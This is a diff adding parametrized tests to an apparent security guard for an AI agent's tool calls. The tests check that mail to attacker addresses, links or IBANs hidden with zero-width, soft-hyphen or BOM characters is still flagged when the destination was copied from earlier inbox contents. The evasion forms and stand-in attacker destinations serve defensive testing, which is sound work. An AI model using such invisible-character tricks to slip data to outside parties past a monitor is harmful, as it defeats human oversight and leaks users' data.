@@ -212,3 +212,27 @@ async def test_benign_writes_are_not_asked(rt, name):
     v = verdict(code, run_id, address, args)
     assert not v.ask, v
     assert v.reasons and all(not r.asks for r in v.reasons)
+
+
+# The same destination written in another form a later run types as a literal: the mail or the request still goes
+# to the attacker (D-63).
+EQUIVALENT_FORMS = {
+    "zero-width space in an address": "attac\u200bker@evil-mail.com",
+    "soft hyphen in an address": "attacker@evil\u00ad-mail.com",
+    "zero-width joiner in a link's host": "https://evil\u200d-site.example/claim",
+    "BOM inside an IBAN": ATTACKER_IBAN[:8] + "\ufeff" + ATTACKER_IBAN[8:],
+}
+
+
+@pytest.mark.parametrize("name", list(EQUIVALENT_FORMS))
+async def test_evasion_an_equivalent_form_copied_in_a_later_run_is_asked(rt, name):
+    first = await rt.execute("import tools\nawait tools.mail.get_received_emails()")
+    assert first.status == "completed"
+    earlier = {m.norm: Origin("mail.get_received_emails", first.run_id, 1, m.path, m.kind) for m in marks(INBOX)}
+    to = EQUIVALENT_FORMS[name]
+    code = f"import tools\nawait tools.mail.send_email(to={to!r}, subject='hi', body='hello')\n"
+    run_id, address, args = await run(rt, code)
+    assert args["to"] == to
+    v = verdict(code, run_id, address, args, earlier=earlier)
+    assert v.ask, v
+    assert any(r.asks and r.origin and r.origin["run_id"] == first.run_id for r in v.reasons)
